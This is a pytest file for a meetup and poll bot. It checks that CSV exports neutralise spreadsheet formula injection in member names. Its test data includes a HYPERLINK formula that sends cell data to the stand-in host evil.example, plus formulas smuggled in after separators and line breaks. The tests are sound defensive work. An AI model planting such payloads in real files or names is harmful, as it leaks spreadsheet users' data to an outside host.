"""Every CSV the bot sends opens in a spreadsheet as text: no name a member chose runs as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from bot.db.models import Meetup, MeetupStatus, Poll, PollOption, PollStatus, RsvpSource, RsvpStatus
from bot.rendering.attendees import render_attendees_csv
from bot.rendering.csv_files import FORMULA_STARTS, neutralise_cell, write_csv
from bot.rendering.poll_embed import render_results_csv
from bot.services.poll_tallies import OptionTally, PollResults
from bot.services.roster import Roster, RosterEntry

# (a display name a member could choose, the cell a spreadsheet shows for it)
HOSTILE_NAMES = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"click")', '\'=HYPERLINK("https://evil.example/?d="&A1,"click")'),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # a negative number in a name stays text, as a name should
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("\n=1", "'\n'=1"),
    # A separator or line break before a formula start: what a reader splits there starts as text.
    (";=1", ";'=1"),
    ('Kim;=HYPERLINK("x")', 'Kim;\'=HYPERLINK("x")'),
    ("Lee,-2+3", "Lee,'-2+3"),
    ("new\n@line", "new\n'@line"),
    ('Kim "the host" Minji', 'Kim "the host" Minji'),
    ("Lee, Jiwoo", "Lee, Jiwoo"),
    ("two\nlines", "two\nlines"),
    ("김민지", "김민지"),
    ("مرحبا\u200f", "مرحبا\u200f"),  # right to left, with its mark
    ("a=1", "a=1"),  # only a leading = starts a formula
    ("  =1", "'  =1"),  # an import that trims spaces would find a formula
    ("Kim; =1", "Kim;' =1"),
]
START = datetime(2027, 3, 20, 10, tzinfo=UTC)


def parsed(data: bytes, *, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8")), delimiter=delimiter))


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES)
def test_a_hostile_name_is_one_cell_of_text(name: str, shown: str) -> None:
    data = write_csv(["user_id", "name"], [[42, name]])
    assert parsed(data) == [["user_id", "name"], ["42", shown]]
    assert not any(cell.startswith(FORMULA_STARTS) for row in parsed(data) for cell in row)


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES)
def test_a_reader_that_splits_inside_quotes_still_finds_no_formula(name: str, shown: str) -> None:
    """A spreadsheet set to `;` or tabs, or one that ignores quotes, cuts wherever it finds its
    separator or a line break: every piece it can cut starts as text."""
    raw = write_csv(["user_id", "name"], [[42, name]]).decode()
    for separator in (",", ";", "\t"):
        pieces = re.split(rf"\r\n|[\r\n]|{separator}", raw)
        formulas = [p for p in pieces if p.strip('"').lstrip(" ").startswith(("=", "+", "-", "@"))]
        assert not formulas, (separator, pieces)


def test_every_field_is_quoted_and_the_bots_own_figures_are_unchanged() -> None:
    data = write_csv(["user_id", "when"], [[400_000_000_000_000_001, "2027-03-20T10:00:00+00:00"], [7, None]])
    assert data.decode().splitlines() == [
        '"user_id","when"',
        '"400000000000000001","2027-03-20T10:00:00+00:00"',
        '"7",""',
    ]


def test_a_name_with_a_lone_surrogate_still_exports() -> None:
    assert parsed(write_csv(["name"], [["bad\ud800name"]]))[1] == ["bad?name"]


def test_neutralising_only_touches_the_first_character() -> None:
    assert neutralise_cell("=1") == "'=1" and neutralise_cell("1=") == "1=" and neutralise_cell(None) == ""


def _meetup() -> Meetup:
    return Meetup(
        id=3,
        guild_id=1,
        channel_id=2,
        title="Dinner",
        starts_at=START,
        ends_at=START + timedelta(hours=2),
        timezone="Asia/Seoul",
        capacity=None,
        status=MeetupStatus.SCHEDULED,
        created_by=1,
    )


def test_the_attendees_csv_carries_every_hostile_name_as_text() -> None:
    entries = [
        RosterEntry(100 + n, RsvpStatus.GOING, START, RsvpSource.BUTTON, None) for n in range(len(HOSTILE_NAMES))
    ]
    walk_in = 999
    roster = Roster(_meetup(), going=entries, attended={walk_in: START})
    names = {100 + n: name for n, (name, _) in enumerate(HOSTILE_NAMES)} | {walk_in: "=1+1"}
    rows = parsed(render_attendees_csv(roster, names))
    assert [(row[0], row[1]) for row in rows[1:]] == [
        *((str(100 + n), shown) for n, (_, shown) in enumerate(HOSTILE_NAMES)),
        (str(walk_in), "'=1+1"),
    ]


def test_the_poll_csv_carries_every_hostile_name_as_text() -> None:
    poll = Poll(id=7, title="Dinner", timezone="Asia/Seoul", status=PollStatus.OPEN, created_by=1)
    option = PollOption(id=1, poll_id=7, position=0, starts_at=START)
    voters = [100 + n for n in range(len(HOSTILE_NAMES))]
    names = {100 + n: name for n, (name, _) in enumerate(HOSTILE_NAMES)}
    rows = parsed(render_results_csv(PollResults(poll, [OptionTally(option, voters, [])], names)))
    assert rows[0] == ["user_id", "name", "1. 2027-03-20 19:00 Asia/Seoul"]
    assert [(row[1], row[2]) for row in rows[1:]] == [(shown, "works") for _, shown in HOSTILE_NAMES]
